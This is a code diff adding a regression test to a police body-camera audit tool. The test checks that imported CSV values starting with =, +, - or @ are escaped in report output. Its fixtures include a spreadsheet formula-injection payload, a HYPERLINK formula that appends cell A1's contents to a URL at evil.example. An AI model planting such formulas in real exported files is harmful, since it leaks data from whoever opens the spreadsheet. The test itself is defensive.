@@ -325,3 +325,29 @@ def test_ingested_footage_is_audited(bwc, home: Path, camera: Path, tmp_path: Pa
     (me,) = [o for o in data["officers"] if o["officer_id"] == "110023"]
     assert (me["cases"], me["full"], me["mean_coverage"]) == (1, 1, 1.0)
     assert me["uploads"] >= 3
+
+
+def test_csv_report_cells_never_run_as_formulas(bwc, home: Path, tmp_path: Path) -> None:
+    """Regression (issue 12): imported text starting with = + - @ reached the CSV as is, where
+    a spreadsheet runs it as a formula. It is written with a leading ' ; numbers stay numbers."""
+    link = '"=HYPERLINK(""http://evil.example/?""&A1,""open"")"'
+    officers = f"officer_id,name,unit,county,frontline\n@9,{link},=UNIT(),-3+2,是\n"
+    cases = "case_id,category,unit,officers,start,end,location\n"
+    cases += f"{link},x,=UNIT(),@9,2026-10-15T09:30:00,2026-10-15T09:40:00,+loc\n"
+    for kind, text in (("officers", officers), ("cases", cases)):
+        r = bwc("audit", "import", kind, write(tmp_path, f"{kind}.csv", text))
+        assert r.code == 0, r.err
+    for by in ("officer", "unit", "county"):
+        r = bwc("audit", "report", "--month", "2026-10", "--format", "csv", "--by", by)
+        assert r.code == 0, r.err
+        rows = list(csv.reader(io.StringIO(r.out)))
+        for row in rows:
+            for cell in row:
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (by, cell)
+        assert len(rows) == 2
+    r = bwc("audit", "report", "--month", "2026-10", "--format", "csv")
+    row = next(csv.DictReader(io.StringIO(r.out)))
+    assert row["officer_id"] == "'@9"
+    assert row["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"open")'
+    assert (row["unit"], row["county"]) == ("'=UNIT()", "'-3+2")
+    assert (row["cases"], row["none"], row["full_rate"]) == ("1", "1", "0.0000")
